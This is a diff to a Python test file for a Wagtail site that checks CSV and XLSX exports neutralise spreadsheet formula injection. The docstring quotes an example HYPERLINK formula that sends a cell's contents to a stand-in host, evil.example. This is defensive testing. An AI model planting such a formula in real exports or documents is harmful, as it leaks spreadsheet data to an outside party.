@@ -2,8 +2,9 @@
 
 The issue's input: a feedback message ``=HYPERLINK("http://evil.example/?x="&A1,
 "Klicka")`` came out of the submissions CSV unchanged. Every CSV and XLSX export
-(form submissions, Wagtail's reports, any listing export) prefixes cells that begin
-with ``=``, ``+``, ``-``, ``@``, tab or carriage return with a single quote.
+(form submissions, Wagtail's reports, any listing export) prefixes CSV cells that begin
+with ``=``, ``+``, ``-``, ``@``, tab or carriage return with a single quote; XLSX cells
+so beginning are kept as written, stored as text with the quote prefix.
 """
 
 import csv
@@ -41,15 +42,28 @@ def csv_rows(response):
     return list(csv.reader(io.StringIO(text, newline="")))
 
 
-def xlsx_rows(response):
+def xlsx_cells(response):
     assert response.status_code == 200
     content = b"".join(response.streaming_content)
     sheet = load_workbook(io.BytesIO(content)).active
-    return [list(row) for row in sheet.iter_rows(values_only=True)]
+    return [list(row) for row in sheet.iter_rows()]
 
 
 def formula_cells(rows):
     return [c for row in rows for c in row if isinstance(c, str) and c.startswith(FORMULA_START)]
+
+
+def unmarked_xlsx_formulas(cells):
+    """XLSX cells a spreadsheet could read as a formula: starting like one and not
+    stored as text with the quote prefix."""
+    return [
+        cell.value
+        for row in cells
+        for cell in row
+        if isinstance(cell.value, str)
+        and cell.value.startswith(FORMULA_START)
+        and not (cell.data_type == "s" and cell.quotePrefix)
+    ]
 
 
 @pytest.fixture
@@ -80,11 +94,17 @@ def test_form_submission_export_neutralises_formulas(admin_client, submissions, 
         f"/admin/forms/submissions/{submissions.pk}/?export={export_format}"
     )
 
-    rows = csv_rows(response) if export_format == "csv" else xlsx_rows(response)
     stored = [s.get_data()["synpunkter"] for s in FormSubmission.objects.all()]
     assert len(stored) == len(FORMULAS)
-    assert sorted(row[-1] for row in rows[1:]) == sorted("'" + message for message in stored)
-    assert formula_cells(rows) == []
+    if export_format == "csv":
+        rows = csv_rows(response)
+        assert sorted(row[-1] for row in rows[1:]) == sorted("'" + message for message in stored)
+        assert formula_cells(rows) == []
+    else:
+        # Shown as written, marked as text (core/exports.py).
+        cells = xlsx_cells(response)
+        assert sorted(row[-1].value for row in cells[1:]) == sorted(stored)
+        assert unmarked_xlsx_formulas(cells) == []
 
 
 def test_plain_text_numbers_and_dates_are_exported_as_they_are():
@@ -120,9 +140,14 @@ def formula_page(home, admin_client):
 def test_report_exports_neutralise_formulas(admin_client, formula_page, report, export_format):
     response = admin_client.get(f"/admin/reports/{report}/?export={export_format}")
 
-    rows = csv_rows(response) if export_format == "csv" else xlsx_rows(response)
-    assert any(cell == "'" + HYPERLINK for row in rows for cell in row), rows
-    assert formula_cells(rows) == []
+    if export_format == "csv":
+        rows = csv_rows(response)
+        assert any(cell == "'" + HYPERLINK for row in rows for cell in row), rows
+        assert formula_cells(rows) == []
+    else:
+        cells = xlsx_cells(response)
+        assert any(cell.value == HYPERLINK for row in cells for cell in row)
+        assert unmarked_xlsx_formulas(cells) == []
 
 
 def all_subclasses(cls):
@@ -135,7 +160,7 @@ def test_no_export_view_bypasses_the_neutralising():
     """Every export view Wagtail and we define goes through the neutralised methods."""
     assert SpreadsheetExportMixin.neutralises_formulas
     for view in all_subclasses(SpreadsheetExportMixin):
-        for method in ("preprocess_field_value", "get_heading"):
+        for method in ("preprocess_field_value", "generate_xlsx_row", "get_heading"):
             assert getattr(view, method) is getattr(SpreadsheetExportMixin, method), (
                 view,
                 method,
